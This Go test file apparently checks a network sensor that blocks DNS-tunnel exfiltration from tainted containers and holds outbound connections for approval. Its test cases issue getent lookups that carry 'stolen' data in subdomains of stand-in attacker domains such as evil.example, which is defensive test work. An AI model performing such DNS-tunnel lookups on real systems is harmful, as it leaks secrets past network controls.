//go:build vmguest

package names

import (
	"strings"
	"testing"

	"weir/test/vm/guest/rig"
)

func TestNames(t *testing.T) {
	f := start(t)
	t.Run("B24_tunnel_without_the_sensor", f.bare)
	f.sensor = rig.StartSensor(t, policyText)
	for _, test := range []struct {
		name string
		run  func(*fixture, *testing.T)
	}{
		{"B24_tunnel", (*fixture).tunnel},
		{"held_by_name", (*fixture).held},
	} {
		t.Run(test.name, func(t *testing.T) { test.run(f, t) })
	}
}

// bare: a query carries what it says to whoever serves its domain (B24).
func (f *fixture) bare(t *testing.T) {
	s := rig.Bare(t, "names")
	s.Run(t, "getent", "ahosts", "stolen.bare.example")
	if f.zone.times("stolen.bare.example") == 0 {
		t.Error("the attack does not work without the sensor")
	}
}

// tunnel: while a container is tainted, no packet leaves for a name that nobody judged (B24).
func (f *fixture) tunnel(t *testing.T) {
	s := f.guard(t, "--taint", "secret")
	mark := f.world.Mark(t)
	r := s.Run(t, "getent", "ahosts", "stolen.evil.example")
	want(t, r, 0, "198.18.")
	f.silent(t, mark, "evil.example")
}

// held: the connect to an address that stands for a name is held with that name, and goes where the name leads.
func (f *fixture) held(t *testing.T) {
	f.zone.set("held.example", host)
	s := f.guard(t, "--taint", "secret")
	mark := f.world.Mark(t)
	p := s.Start(t, "curl", "-sS", "-m", "60", "http://held.example/")
	q := f.asked(t, "held.example")
	if !q.Held || !strings.HasPrefix(q.Destination.Address, "198.1") || q.Destination.Port != 80 {
		t.Errorf("the question does not tell what is asked: %+v", q)
	}
	if shown := f.sensor.Must(t, "pending"); !strings.Contains(shown, "held.example:80/tcp") {
		t.Errorf("weir pending does not show the name:\n%s", shown)
	}
	f.silent(t, mark, "held.example")
	f.sensor.Approve(t, q.ID)
	want(t, p.Wait(t), 0, "reached "+host+" as held.example")

	p = s.Start(t, "curl", "-sS", "-m", "60", "http://held.example/again")
	q = f.asked(t, "held.example")
	f.sensor.Deny(t, q.ID)
	want(t, p.Wait(t), 7, "")
}
